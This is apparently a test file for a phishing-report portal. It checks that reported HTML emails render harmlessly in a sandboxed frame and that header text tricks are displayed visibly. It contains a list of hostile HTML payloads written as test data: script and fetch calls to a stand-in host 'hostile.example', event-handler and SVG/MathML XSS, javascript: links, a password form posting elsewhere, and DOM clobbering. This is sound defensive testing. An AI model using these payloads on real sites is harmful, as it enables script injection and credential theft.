import { afterAll, beforeAll, expect, test } from 'vitest'
import { Portal } from './portal.testing.js'

let portal: Portal
beforeAll(async () => {
  portal = await Portal.open()
  await portal.makePerson('analyst@example.org', 'analyst')
})
afterAll(() => portal?.close())

const date = new Date().toUTCString().replace('GMT', '+0000')
let mails = 0
function page(html: string, more = ''): Buffer {
  const head = `Received: by mx.example.org; ${date}\r\nFrom: x@hostile.example\r\nTo: a@example.org\r\nSubject: page ${mails++}\r\nDate: ${date}\r\n${more}`
  return Buffer.from(`${head}MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n`)
}

const elsewhere = 'http://hostile.example'
const hostile: readonly (readonly [string, string])[] = [
  ['script', `<script>parent.postMessage('ran', '*'); fetch('${elsewhere}/s')</script><script src="${elsewhere}/s.js"></script>`],
  [
    'event handlers',
    `<img src="${elsewhere}/e.png" onerror="alert(1)"><body onload="alert(2)"><details ontoggle="alert(3)" open>x</details>`,
  ],
  [
    'SVG and MathML',
    `<svg onload="alert(1)"><image href="${elsewhere}/i.svg"/><use href="${elsewhere}/u.svg#x"/></svg><math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>`,
  ],
  [
    'style sheets',
    `<style>@import url(${elsewhere}/a.css); body{background:url(${elsewhere}/b.png)}</style><link rel=stylesheet href="${elsewhere}/c.css">`,
  ],
  [
    'style attributes',
    `<p style="background:url(${elsewhere}/d.png);position:fixed;inset:0">x</p><div style="background-image:image-set('${elsewhere}/f.png' 1x)">y</div>`,
  ],
  [
    'links',
    `<a href="javascript:alert(1)">a</a><a href="${elsewhere}/l" ping="${elsewhere}/p" target=_top>b</a><area href="${elsewhere}/m">`,
  ],
  [
    'leading elsewhere',
    `<meta http-equiv=refresh content="0;url=${elsewhere}/r"><base href="${elsewhere}/"><link rel=preconnect href="${elsewhere}"><link rel=dns-prefetch href="${elsewhere}">`,
  ],
  [
    'forms',
    `<form action="${elsewhere}/f" method=post><input name=password autofocus><button>Go</button></form><isindex action="${elsewhere}/i">`,
  ],
  [
    'frames and plug-ins',
    `<iframe src="${elsewhere}/g"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><object data="${elsewhere}/o"></object><embed src="${elsewhere}/q">`,
  ],
  [
    'media',
    `<video poster="${elsewhere}/v.png" autoplay><source src="${elsewhere}/v.mp4"></video><audio src="${elsewhere}/w.mp3" autoplay></audio><picture><source srcset="${elsewhere}/y.png"><img srcset="${elsewhere}/z.png 2x"></picture>`,
  ],
  [
    'clobbering',
    `<form id=parent><input name=postMessage></form><img name=body src="${elsewhere}/c.png"><a id=document href="${elsewhere}/">z</a>`,
  ],
]

test.each(hostile)('a page with %s is shown, and does nothing', async (_, html) => {
  const [sample] = await portal.reported('alice@example.org', 'missed', page(`<p>Before</p>${html}<p>After</p>`))
  const { page: window, context } = await portal.visit('analyst@example.org')
  const asked: string[] = []
  const happened: string[] = []
  window.on(
    'request',
    request => request.url().startsWith(portal.url) || /^(?:data|about|blob):/.test(request.url()) || asked.push(request.url()),
  )
  window.on('dialog', dialog => {
    happened.push(dialog.message())
    void dialog.dismiss()
  })
  window.on('popup', () => void happened.push('popup'))
  await window.goto(`${portal.url}/samples/${sample}/view`)
  await window.evaluate('addEventListener("message", () => { document.title = "ran" })')
  await window.getByText('Rendering', { exact: true }).click()
  const frame = window.frameLocator('iframe')
  await frame.getByText('After').waitFor()
  const left = frame.locator(
    'script, style, link, base, form, input, button, iframe, object, embed, svg, math, video, audio, img, a[href], area',
  )
  expect(await left.count()).toBe(0)
  // What it would have tried when it is drawn is tried by now.
  await window.evaluate('new Promise(drawn => requestAnimationFrame(() => requestAnimationFrame(drawn)))')
  expect(await frame.getByText('After').count()).toBe(1)
  expect([asked, happened]).toEqual([[], []])
  expect(await window.title()).not.toBe('ran')
  expect(new URL(window.url()).pathname).toBe(`/samples/${sample}/view`)
  expect(await window.locator('iframe').getAttribute('sandbox')).toBe('')
  await context.close()
})

test('where a link leads stands beside its words', async () => {
  const [sample] = await portal.reported('alice@example.org', 'missed', page(`<a href="${elsewhere}/claim">your bank</a>`))
  const { page: window, context } = await portal.visit('analyst@example.org')
  await window.goto(`${portal.url}/samples/${sample}/view`)
  await window.getByText('Rendering', { exact: true }).click()
  await window.frameLocator('iframe').getByText(`⟨${elsewhere}/claim⟩`).waitFor()
  await context.close()
})

test('signs that turn the direction of text, or hide in it, are shown by their names', async () => {
  const mail = page('<p>x</p>', 'X-Trick: bank\u202Eknab\u200B.example\r\n')
  const [sample] = await portal.reported('alice@example.org', 'missed', mail)
  const { page: window, context } = await portal.visit('analyst@example.org')
  await window.goto(`${portal.url}/samples/${sample}/view`)
  await window.getByText('Headers', { exact: true }).click()
  await window.getByText('bank⟨RLO⟩knab⟨ZWSP⟩.example').waitFor()
  await context.close()
})

test('of a page of a megabyte and more the beginning is shown, and the window goes on', async () => {
  const [sample] = await portal.reported('alice@example.org', 'missed', page('<div><b>word </b>'.repeat(90_000)))
  const { page: window, context } = await portal.visit('analyst@example.org')
  await window.goto(`${portal.url}/samples/${sample}/view`)
  await window.getByText('Rendering', { exact: true }).click()
  await window.getByText('Too long to be shown whole').waitFor()
  await window.getByText('Structure', { exact: true }).click()
  await window.getByRole('cell', { name: 'text/html' }).waitFor()
  await context.close()
})
